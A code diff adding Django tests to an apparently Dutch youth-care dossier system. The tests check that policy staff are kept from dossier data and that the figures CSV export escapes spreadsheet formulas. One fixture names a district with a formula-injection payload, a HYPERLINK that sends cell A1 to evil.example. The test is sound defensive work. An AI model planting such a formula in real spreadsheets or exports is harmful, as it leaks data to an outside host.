@@ -48,3 +48,29 @@ def test_policy_officer_cannot_reach_dossiers_by_api(many_dossiers):
     client = login_verified(Client(), make_user(Role.BELEIDSMEDEWERKER))
     assert client.get("/api/v1/dossiers/").json()["count"] == 0
     assert client.get(f"/api/v1/dossiers/{many_dossiers[0].reference}/").status_code == 404
+
+
+# --- own municipality, complementary suppression, safe export --------------------------------
+
+
+def _dossiers_in(wijk, n: int, member=None, *, status: str = "open") -> list:
+    from keten.dossiers.models import Dossier, Family
+
+    member = member or make_user(Role.PROFESSIONAL)
+    made = [make_dossier(member) for _ in range(n)]
+    Family.objects.filter(dossier__in=made).update(wijk=wijk)
+    if status != "open":
+        Dossier.objects.filter(pk__in=[d.pk for d in made]).update(status=status)
+    return made
+
+
+def test_figures_csv_neutralises_a_formula_in_a_wijk_name():
+    from keten.testing.factories import WijkFactory
+
+    crafted = WijkFactory(name='=HYPERLINK("https://evil.example/?"&A1,"Noord")')
+    _dossiers_in(crafted, 6)
+    client = login_verified(Client(), make_user(Role.BELEIDSMEDEWERKER))
+    text = client.get("/cijfers.csv").content.decode()
+    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Noord"")";6' in text
+    assert "\n=HYPERLINK" not in text
+    assert ";=HYPERLINK" not in text
